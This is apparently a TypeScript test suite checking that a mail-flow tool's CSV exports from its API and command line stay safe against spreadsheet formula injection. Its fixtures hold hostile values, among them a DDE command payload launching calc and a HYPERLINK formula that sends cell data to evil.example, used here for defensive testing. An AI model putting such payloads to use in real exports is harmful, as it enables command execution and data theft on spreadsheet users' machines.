/** CSV of the API and of the command line, read by Python's csv module (RFC 4180, strict). */
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { after, before, describe, test } from 'node:test'
import fc from 'fast-check'
import { messageColumnNames } from '../../shared/event-queries/message-columns.ts'
import { csvText } from '../../shared/http-api/csv.ts'
import { RejectedSessions } from '../../shared/messages/rejected-sessions.ts'
import { type HttpApi, startApi } from '../support/cli/mailflow.ts'
import { overTls } from '../support/fixtures.ts'
import { traceMail } from '../support/traced-mail.ts'

const script = `
import csv, io, json, sys
text = sys.stdin.buffer.read().decode("utf-8")
print(json.dumps(list(csv.reader(io.StringIO(text, newline=""), strict=True))))
`
const readRecords = (csv: string): string[][] =>
  JSON.parse(execFileSync('python3', ['-c', script], { input: csv, maxBuffer: 1e8 }).toString())

/** As a program reads a value: one apostrophe at the beginning is not part of it. */
const readValue = (field: string): string => field.replace(/^'/, '')

function readRows(csv: string): Record<string, string>[] {
  const [names = [], ...records] = readRecords(csv)
  return records.map((record) => {
    assert.equal(record.length, names.length)
    return Object.fromEntries(names.map((name, index) => [name, readValue(record[index] ?? '')]))
  })
}

const now = Date.parse('2026-11-30T12:00:00Z')
let api: HttpApi

const hostile = {
  sender: '=cmd|\'/c,"calc"\'!A0@evil.example',
  recipient: '"a,b ""c"""@bücher.example',
  helo: '+1,"x"',
  headerMessageId: '=HYPERLINK("http://evil.example/?"&A1,"click, please")',
  reply: { code: 550, enhanced: '5.1.1', text: 'No such user "ann", sorry; größe 日本 =1+1' },
}

before(async () => {
  api = await startApi(() => now)
  await traceMail(
    api.database,
    '2026-11-30T11:00:00Z',
    1,
    {
      mailFrom: hostile.sender,
      source: { ip: '2001:db8::1', port: 1, helo: hostile.helo },
      headerMessageId: hostile.headerMessageId,
      tls: overTls,
      size: 12_345,
    },
    {
      [hostile.recipient]: {
        verdict: { action: 'Bounce', reason: 'RefusedByNextHop', reply: hostile.reply } as never,
        attempts: [{ outcome: 'PermanentFailure', reply: hostile.reply }],
      },
      '+tag@ours.example': { attempts: [{ outcome: 'Delivered' }] },
      "'quoted'@ours.example": {},
    },
  )
  await new RejectedSessions(api.database.documents, api.database.messagesTable, 15).store([
    {
      id: '01KB0000000000000000000001',
      at: '2026-11-30T11:00:00.000Z',
      kind: 'Rejected',
      stage: 'Rcpt',
      sender: '-2+3@evil.example',
      recipient: '@SUM(A1:A9)@ours.example',
      helo: '\t=1',
      reply: '550 5.7.1 "no",\r\n=1+1',
      clientIp: '192.0.2.1',
      softwareVersion: '0.2.0',
    },
  ])
  const name = '@SUM(1,2) "Büro"'
  await api.call('POST /inbound-connectors', {
    json: { name, connectorType: 'Partner', senderDomains: ['contoso.example'] },
  })
})
after(() => api.stop())

const csvOf = async (target: string): Promise<string> =>
  (await api.call(`GET ${target}`, { headers: { accept: 'text/csv' } })).body

describe("Python's csv module reads", () => {
  test('each recipient of a message with hostile texts', async () => {
    const rows = readRows(await csvOf('/messages'))
    assert.deepEqual(
      rows.map((row) => [row.recipient_status, row.recipient_address, row.state]).sort(),
      [
        [`${hostile.recipient}##Receive, Fail`, hostile.recipient, 'Bounced'],
        ["'quoted'@ours.example##Receive", "'quoted'@ours.example", 'Pending'],
        ['+tag@ours.example##Receive, Send', '+tag@ours.example', 'Delivered'],
      ].sort(),
    )
    for (const row of rows)
      assert.deepEqual(
        [row.sender_address, row.client_hostname, row.message_id, row.original_client_ip, row.total_bytes],
        [hostile.sender, hostile.helo, hostile.headerMessageId, '2001:db8::1', '12345'],
      )
    const bounced = rows.find(({ state }) => state === 'Bounced')
    assert.equal(bounced?.reply, `550 5.1.1 ${hostile.reply.text}`)
  })

  test('no text that a spreadsheet takes as a formula', async () => {
    const targets = ['/messages', '/messages?state=Rejected', '/changes']
    const fields = (await Promise.all(targets.map(csvOf))).flatMap(readRecords).flat()
    assert.ok(fields.length > 100)
    assert.deepEqual(
      fields.filter((field) => /^[=+\-@\t\r\n]/.test(field)),
      [],
    )
  })

  test('a refusal with hostile texts', async () => {
    const [row, ...others] = readRows(await csvOf('/messages?state=Rejected'))
    assert.deepEqual(others, [])
    assert.deepEqual(
      [row?.sender_address, row?.recipient_status, row?.client_hostname, row?.reply, row?.stage, row?.count],
      ['-2+3@evil.example', '@SUM(A1:A9)@ours.example##Fail', '\t=1', '550 5.7.1 "no",\r\n=1+1', 'Rcpt', '1'],
    )
  })

  test('a change with its fields as JSON', async () => {
    const [row] = readRows(await csvOf('/changes'))
    assert.equal(row?.name, '@SUM(1,2) "Büro"')
    assert.equal(row?.before, '')
    assert.equal(JSON.parse(row?.after ?? '').name, '@SUM(1,2) "Büro"')
  })

  test('an empty list: the names of the columns', async () => {
    assert.deepEqual(readRecords(await csvOf('/messages?sender=x.example')), [[...messageColumnNames]])
  })

  test('what the command line prints, with the same values', async () => {
    for (const [command, target] of [
      [['messages', '--csv'], '/messages'],
      [['changes', '--csv'], '/changes'],
    ] as const) {
      const { status, out, err } = await api.mailflow(...command)
      assert.deepEqual([status, err], [0, ''])
      assert.deepEqual(readRecords(out), readRecords(await csvOf(target)))
    }
  })

  test('any text', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc
        .array(fc.constantFrom('"', ',', '\r', '\n', '=', "'", '+', '\t', ';', 'ü', ' '))
        .map((all) => all.join('')),
    )
    const rows = fc
      .sample(fc.tuple(text, text), 2000)
      .map(([first, second]) => ({ first, second, last: 'x' }))
    assert.deepEqual(readRows(csvText(['first', 'second', 'last'], rows)), rows)
  })
})
